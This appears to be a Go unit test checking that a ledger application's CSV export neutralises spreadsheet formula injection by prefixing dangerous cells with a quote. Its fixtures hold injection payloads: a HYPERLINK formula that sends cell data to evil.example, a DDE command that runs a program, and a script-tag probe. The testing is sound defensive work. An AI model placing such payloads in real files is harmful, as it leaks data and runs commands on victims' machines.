package export_test

import (
	"bytes"
	"encoding/csv"
	"slices"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/kcledger/kcledger/domain"
	"github.com/kcledger/kcledger/projections"
	"github.com/kcledger/kcledger/projections/export"
)

// csvRows writes entries as CSV and reads the rows back.
func csvRows(t *testing.T, vi bool, entries ...projections.TrailEntry) [][]string {
	t.Helper()
	var buf bytes.Buffer
	w, err := export.NewCSV(&buf, vi)
	require.NoError(t, err)
	for _, e := range entries {
		require.NoError(t, w.Write(e))
	}
	require.NoError(t, w.Close())
	require.True(t, bytes.HasPrefix(buf.Bytes(), []byte("\xEF\xBB\xBF")), "UTF-8 BOM for Excel")
	rows, err := csv.NewReader(bytes.NewReader(buf.Bytes()[3:])).ReadAll()
	require.NoError(t, err)
	require.Equal(t, export.CSVHeader, rows[0])
	return rows[1:]
}

func cell(t *testing.T, row []string, name string) string {
	t.Helper()
	i := slices.Index(export.CSVHeader, name)
	require.GreaterOrEqual(t, i, 0, name)
	return row[i]
}

// A text that Excel would read as a formula (=, +, -, @, or a tab or
// carriage return first: OWASP's CSV injection list) is written with a
// ' before it, so that Excel shows it as text; the amounts, which the
// export writes itself, stay numbers, negative ones included.
func TestCSVNeutralizesFormulas(t *testing.T) {
	ev := domain.Event{
		ID: "id-1", Type: domain.TypeDisbursed, FiscalYear: 2025, Province: "01", Source: domain.SourceNational,
		Amount: domain.AmountFromInt64(1_000_000), EffectiveDate: domain.Date{Year: 2025, Month: time.March, Day: 1},
		Beneficiary: `=HYPERLINK("http://evil.example/?x="&A1,"bấm vào")`, Reason: "+cmd|' /C calc'!A0",
		Voucher: "-1+1", Decision: "@SUM(A1:A9)", Project: "\t=1+1", ProjectName: "\r=2+2", ImplementingUnit: "<script>alert(1)</script>",
		Actor: "ketoan-hn",
	}
	adj := domain.Event{
		ID: "id-2", Type: domain.TypeAdjusted, FiscalYear: 2025, Province: "01", Source: domain.SourceNational,
		Amount: domain.AmountFromInt64(-500_000_000), EffectiveDate: domain.Date{Year: 2025, Month: time.March, Day: 2},
		Decision: "9/QĐ-UBND", Reason: "giảm", Actor: "ketoan-hn",
	}
	for _, vi := range []bool{false, true} {
		rows := csvRows(t, vi, projections.TrailEntry{Seq: 1, Event: ev}, projections.TrailEntry{Seq: 2, Event: adj})
		require.Len(t, rows, 2)
		for col, want := range map[string]string{
			"beneficiary":       `'=HYPERLINK("http://evil.example/?x="&A1,"bấm vào")`,
			"reason":            "'+cmd|' /C calc'!A0",
			"voucher":           "'-1+1",
			"decision":          "'@SUM(A1:A9)",
			"project":           "'\t=1+1",
			"project_name":      "'\r=2+2",
			"implementing_unit": "<script>alert(1)</script>",
			"actor":             "ketoan-hn",
		} {
			assert.Equal(t, want, cell(t, rows[0], col), col)
		}
		want := "-500000000"
		if vi {
			want = "-500.000.000"
		}
		assert.Equal(t, want, cell(t, rows[1], "amount"), "an amount stays a number")
		assert.Equal(t, "9/QĐ-UBND", cell(t, rows[1], "decision"))
	}
}
